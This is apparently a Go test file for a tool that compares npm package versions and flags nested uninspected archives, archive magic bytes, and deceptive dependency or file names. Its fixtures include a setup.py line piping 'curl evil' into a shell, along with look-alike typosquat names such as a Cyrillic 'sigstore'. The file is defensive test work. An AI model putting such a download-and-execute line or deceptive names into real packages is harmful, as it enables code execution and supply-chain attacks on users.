package content

import (
	"strings"
	"testing"
)

// Nested archives are named as not inspected, whatever their extension
// says: the content of a .zip, .tgz or .whl inside an npm package is not
// opened by the review, so the holders must be told.
func TestNestedArchivesFlaggedNotInspected(t *testing.T) {
	inner := zipBytes(t, []ent{{name: "setup.py", body: "import os; os.system('curl evil | sh')\n"}})
	innerTgz := gz(t, tarBytes(t, []ent{{name: "a.txt", body: "x"}}))
	old := mustRead(t, "pkg-1.0.0.tgz", npmTgz(t, []ent{
		{name: "package.json", body: `{"name":"pkg","version":"1.0.0"}`},
		{name: "kept.tgz", body: string(innerTgz)},
	}))
	tgz := npmTgz(t, []ent{
		{name: "package.json", body: `{"name":"pkg","version":"1.0.1"}`},
		{name: "vendor/tool.whl", body: string(inner)},
		{name: "data/blob.bin", body: string(innerTgz)},
		{name: "kept.tgz", body: string(innerTgz) + ""},
		{name: "README.md", body: "PK\x03\x04 is how a zip starts, said in text\n"},
	})
	d := Compare(old, mustRead(t, "pkg-1.0.1.tgz", tgz), DefaultLimits())
	for _, want := range []struct {
		file string
		sev  Severity
	}{{"vendor/tool.whl", High}, {"data/blob.bin", High}} {
		if !hasSignal(d.Signals, KindNestedArchive, want.sev, want.file, 0) {
			t.Errorf("no %s nested-archive signal for %s; signals: %+v", want.sev, want.file, d.Signals)
		}
	}
	for _, s := range d.Signals {
		if s.Kind == KindNestedArchive && !strings.Contains(s.Detail, "not inspected") {
			t.Errorf("nested-archive signal does not say the content was not inspected: %q", s.Detail)
		}
		if s.Kind == KindNestedArchive && (s.File == "kept.tgz" || s.File == "README.md") {
			t.Errorf("unchanged archive or text file flagged: %+v", s)
		}
	}
}

func TestArchiveMagic(t *testing.T) {
	tarHead := make([]byte, 512)
	copy(tarHead[257:], "ustar\x0000")
	for _, tc := range []struct {
		head string
		want Magic
	}{
		{"PK\x03\x04rest", MagicZip},
		{"\x1f\x8b\x08\x00", MagicGzip},
		{"\xfd7zXZ\x00\x00", MagicXz},
		{"BZh91AY", MagicBzip2},
		{"\x28\xb5\x2f\xfd\x00", MagicZstd},
		{"7z\xbc\xaf\x27\x1c\x00", Magic7z},
		{"Rar!\x1a\x07\x00", MagicRar},
		{string(tarHead), MagicTar},
		{"plain text", ""},
		{"PK", ""},
	} {
		if got := magicOf([]byte(tc.head)); got != tc.want {
			t.Errorf("magicOf(%q) = %q, want %q", tc.head[:min(len(tc.head), 8)], got, tc.want)
		}
	}
}

// Dependency names are deceptive text too: hidden characters, mixed
// scripts and names that look like the package's own or another
// dependency's name are each named.
func TestDependencyNamesChecked(t *testing.T) {
	old := mustRead(t, "sigstore-1.0.0.tgz", npmTgz(t, []ent{
		{name: "package.json", body: `{"name":"sigstore","version":"1.0.0","dependencies":{"@sigstore/core":"^1"}}`},
	}))
	nw := mustRead(t, "sigstore-1.0.1.tgz", npmTgz(t, []ent{
		{name: "package.json", body: `{"name":"sigstore","version":"1.0.1","dependencies":{"@sigstore/core":"^1",` +
			`"\u0455ig\u0455tore":"^1","tuf\u200b-js":"^2","make-fetch-happen":"^13","make_fetch_happen":"^13"}}`},
	}))
	d := Compare(old, nw, DefaultLimits())
	want := []struct {
		kind   Kind
		detail string
	}{
		{KindDeceptiveText, "dependencies entry \"\u0455ig\u0455tore\" mixes scripts"},
		{KindConfusableName, "\"\u0455ig\u0455tore\" looks the same as \"sigstore\""},
		{KindDeceptiveText, "dependencies entry \"tuf\u200b-js\" contains zero-width"},
		{KindConfusableName, `"make_fetch_happen" looks the same as "make-fetch-happen"`},
	}
	for _, w := range want {
		found := false
		for _, s := range d.Signals {
			if s.Kind == w.kind && s.Severity == High && s.File == "package.json" && strings.Contains(Visible(s.Detail), Visible(w.detail)) {
				found = true
			}
		}
		if !found {
			var got []string
			for _, s := range d.Signals {
				got = append(got, string(s.Kind)+": "+Visible(s.Detail))
			}
			t.Errorf("no %s signal containing %q; got:\n%s", w.kind, Visible(w.detail), strings.Join(got, "\n"))
		}
	}
	for _, s := range d.Signals {
		if strings.Contains(s.Detail, `"@sigstore/core"`) && (s.Kind == KindConfusableName || s.Kind == KindDeceptiveText) {
			t.Errorf("unchanged honest dependency flagged: %+v", s)
		}
	}
}

// Look-alikes from Unicode's confusables data that are neither hidden nor
// of another script: fullwidth and mathematical Latin letters.
func TestUnicodeConfusablesData(t *testing.T) {
	for _, name := range []string{"\uff53igstore", "sigst\u2134re", "\u0251xios"} {
		like := "sigstore"
		if strings.HasSuffix(name, "xios") {
			like = "axios"
		}
		found := false
		for _, s := range TextSignals("dependency name", name, like) {
			if s.Kind == KindConfusableName && strings.Contains(s.Detail, "looks the same as") {
				found = true
			}
		}
		if !found {
			t.Errorf("%s (%q) not flagged as looking like %s", name, name, like)
		}
	}
}

func TestFileNameMixingScriptsFlagged(t *testing.T) {
	tr := mustRead(t, "p-1.0.0.tgz", npmTgz(t, []ent{
		{name: "package.json", body: `{"name":"p","version":"1.0.0"}`},
		{name: "lib/\u0455etup.js", body: "x"},
		{name: "lib/\u0441\u0435\u0442\u044c.js", body: "x"}, // all Cyrillic: an honest name
	}))
	if !hasSignal(tr.Signals, KindDeceptiveText, High, "lib/\u0455etup.js", 0) {
		t.Errorf("file name mixing Cyrillic and Latin not flagged: %+v", tr.Signals)
	}
	if hasSignal(tr.Signals, KindDeceptiveText, High, "lib/\u0441\u0435\u0442\u044c.js", 0) {
		t.Errorf("an all-Cyrillic file name flagged: %+v", tr.Signals)
	}
}
